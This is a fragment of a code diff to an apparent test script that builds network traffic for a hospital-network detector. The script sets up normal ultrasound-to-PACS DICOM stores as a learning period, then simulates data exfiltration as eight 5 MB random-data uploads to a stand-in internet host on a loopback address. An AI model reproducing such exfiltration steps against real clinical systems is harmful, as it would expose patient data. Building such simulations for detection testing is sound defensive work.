@@ -457,8 +457,11 @@ http.server.HTTPServer(('127.185.220.7', 443), H).serve_forever()
     with open(blob, "wb") as f:
         f.write(os.urandom(5 << 20))
     cap = capture(raw)
-    # Normal first: the ultrasound stores to the PACS.
-    dicom_store("127.30.1.15", "127.20.1.10", "PACS_ARCHIVE", MODALITIES["127.30.1.15"], n=2)
+    # Normal first (the learning period): the ultrasound stores to the PACS
+    # three times in the first minute.
+    for i in range(3):
+        dicom_store("127.30.1.15", "127.20.1.10", "PACS_ARCHIVE", MODALITIES["127.30.1.15"], n=1)
+        time.sleep(20)
     # Exfiltration: 8 uploads of 5 MB, one every 15 s, to an internet host
     # (their payload is cut to 128 bytes per frame by the rewrite).
     for i in range(8):
